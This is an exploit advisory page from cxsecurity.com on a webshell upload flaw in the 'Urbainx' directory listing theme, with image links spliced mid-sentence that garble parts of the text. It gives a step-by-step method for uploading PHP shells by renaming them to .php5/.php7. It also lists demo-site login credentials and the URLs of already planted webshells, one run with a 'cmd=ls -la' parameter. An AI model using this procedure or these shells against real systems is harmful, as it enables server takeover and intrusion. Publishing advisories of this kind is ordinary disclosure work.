Urbainx - Modern Directory Listing Script Theme WebShell Upload

ru QUIXSS (RU) ru
Risk: Low
Local: No
Remote: Yes

[*] :: Title: Urbainx - Modern Directory Listing Script Theme WebShell Upload [*] :: Author: QUIXSS [*] :: Date: 2019-04-28 [*] :: Software: Urbainx - Modern Directory Listing Script Theme [?] :: Technical Details & Description: # Weak security measures like no restriction for .PHP5/.PHP7 file upload has been discovered in the «Urbainx - Modern Directory Listing Script Theme». [?] :: Demo Website: # https://codecanyon.net/item/urbainx-modern-directory-listing-script-theme/23430909 # Frontend: http://theme.meteros.agency/urbainx # Backend: http://theme.meteros.agency/urbainx/login # Login: nurchan@gmail.com, Password: 123456 (or register a new profile) [!] :: Special Note: # One of thedeclared features of this web-application is «Totally secured system (SQL injection,XSS, CSRF)». Very funny, huh? [+] :: PoC [PHP Upload]: # http://theme.meteros.agency/urbainx/storage/users/April2019/ABYYGJhNbTwF4fh3X6AK.php # http://theme.meteros.agency/urbainx/storage/users/February2019/BPVx3ik0hHsfT9iuk8AZ.php # http://theme.meteros.agency/urbainx/storage/users/March2019/AvRx3iM1hHsfT9iZZ8AZ.php # http://theme.meteros.agency/urbainx/public/assets/images/clients-img/star-pull.php?cmd=ls -la [+] :: PoC [WebShell Upload]: # Authorize on the demo website for tests: http://theme.meteros.agency/urbainx/login (login mhndsabla@meteors.com, password 123456). Then go to the «Edit Profile» page: http://theme.meteros.agency/urbainx/Users/nurchan/edit (for user «nurchan»). # There is one and only vulnerable file upload field on this page. You can upload any .PHP file u want, just change file type from .PHP to .PHP5 or .PHP7. Submit the form and your file will be here: http://theme.meteros.agency/urbainx/storage/users/XXXXYYYY/ZZZZZ.phpV (or u can «inspect» broken image on this page http://theme.meteros.agency/urbainx/Users/[username] to get the link), where XXXX is month name like «April», YYYY is year like «2019» and ZZZZZ.phpV is your uploaded file name (V is for version of uploaded file: .PHP5 or .PHP7). Sample link: http://theme.meteros.agency/urbainx/storage/users/April2019/yourfile.php5 (check the «PoC Upload» for real working examples).



Vote for this issue:


Thanks for you vote!


Thanks for you comment!
Your message is in quarantine 48 hours.

Comment it here.

(*) - required fields.
{{ x.nick }} | Date: {{ x.ux * 1000 | date:'yyyy-MM-dd'}} {{ x.ux * 1000 | date:'HH:mm' }} CET+1
{{ x.comment }}

Copyright 2021, cxsecurity.com


Back to Top